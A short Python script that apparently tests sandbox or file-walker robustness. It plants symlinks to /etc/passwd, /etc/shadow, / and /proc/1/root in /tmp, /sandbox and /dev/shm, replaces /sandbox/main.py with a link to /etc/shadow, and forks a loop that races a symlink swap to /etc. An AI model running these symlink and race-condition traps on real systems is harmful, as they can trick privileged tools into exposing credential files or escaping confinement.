# Leaves trees behind that lie to whoever walks them: links out, names that are swapped all the time, directories that nobody may enter.
import os
import time

for place in ("/tmp", "/sandbox", "/dev/shm"):
    os.chdir(place)
    os.symlink("/etc/passwd", "passwd")
    os.symlink("/", "root")
    os.symlink("/proc/1/root", "other root")
    for i in range(20):
        open(f"f{i}", "w").write("x")
        os.link(f"f{i}", f"h{i}")
        os.rename(f"f{i}", f"g{i}")
        os.symlink(f"g{i}", f"f{i}")
    os.makedirs("d/" * 40)
    os.chmod("d", 0)
os.mkfifo("/tmp/pipe")
os.remove("/sandbox/main.py")
os.symlink("/etc/shadow", "/sandbox/main.py")
if os.fork() == 0:
    while True:
        os.rename("/tmp/g1", "/tmp/other")
        os.symlink("/etc", "/tmp/g1")
        os.remove("/tmp/g1")
        os.rename("/tmp/other", "/tmp/g1")
        time.sleep(0.005)
time.sleep(0.2)
print("left")
